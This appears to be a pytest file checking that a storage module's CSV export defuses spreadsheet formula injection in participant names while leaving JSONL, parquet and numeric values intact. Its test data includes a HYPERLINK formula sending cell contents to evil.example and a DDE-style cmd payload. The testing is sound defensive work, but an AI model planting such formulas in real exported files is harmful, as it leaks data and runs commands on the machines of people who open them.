"""Names that are formulas: neutral in what a spreadsheet opens, as they are in other files; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from pandas import DataFrame, Series

from storage import export, queries, streaming
from storage.store import Store
from tests.dashboard.rooms import hold

NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"Ada")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tTab", "\rReturn",
    "\nLine", "\uff1d1+1", "Ada, =1", 'Bo "=2"', "Zo\u00eb",
)  # fmt: skip
PLAIN = NAMES[-3:]


@pytest.fixture
def store(db: str, made: Path) -> Store:
    Path(db.removeprefix("sqlite:///")).write_bytes(made.read_bytes())
    return Store.open(db)


def cells(text: str) -> set[str]:
    rows = csv.DictReader(io.StringIO(text, newline=""))
    return {row["participant"] for row in rows} | {row["label"] for row in rows}


def test_a_file_for_a_spreadsheet_has_no_formula(store: Store, tmp_path: Path) -> None:
    lecture = hold(store, people=NAMES, seconds=3)
    for name in ("rows.csv", "rows.jsonl", "rows.parquet"):
        export.write(store, lecture, tmp_path / name)
    found = cells((tmp_path / "rows.csv").read_bytes().decode())
    neutral = {f"'{name}".replace("\r", " ") for name in NAMES if name not in PLAIN}
    assert found == {*neutral, *PLAIN}
    assert not any(cell.startswith(export.FORMULA) for cell in found)
    for other in (pd.read_json(tmp_path / "rows.jsonl", lines=True), pd.read_parquet(tmp_path / "rows.parquet")):
        assert set(other["participant"]) == set(NAMES)


def test_so_has_what_the_dashboard_gives(store: Store) -> None:
    lecture = hold(store, people=NAMES, seconds=3)
    sent = b"".join(streaming.stream(iter([queries.observations(store, lecture)]), "csv")).decode()
    assert not any(cell.startswith(export.FORMULA) for cell in cells(sent))


def test_every_text_is_looked_at_and_no_number() -> None:
    frame = DataFrame(
        {
            "any": ["=1", "a"], "mixed": Series(["-1", -1.5], dtype=object), "yaw": [-21.5, 3.0], "count": [-1, 2],
            "nothing": Series([None, "@x"], dtype="str"), "camera_on": [True, False],
        }
    )  # fmt: skip
    found = export.harmless(frame)
    assert found["any"].tolist() == ["'=1", "a"]
    assert found["mixed"].tolist() == ["'-1", -1.5]
    assert found["nothing"].isna().tolist() == [True, False]
    assert found["nothing"][1] == "'@x"
    for name in ("yaw", "count", "camera_on"):
        pd.testing.assert_series_equal(found[name], frame[name])
    assert ",-21.5," in found.to_csv(index=False)
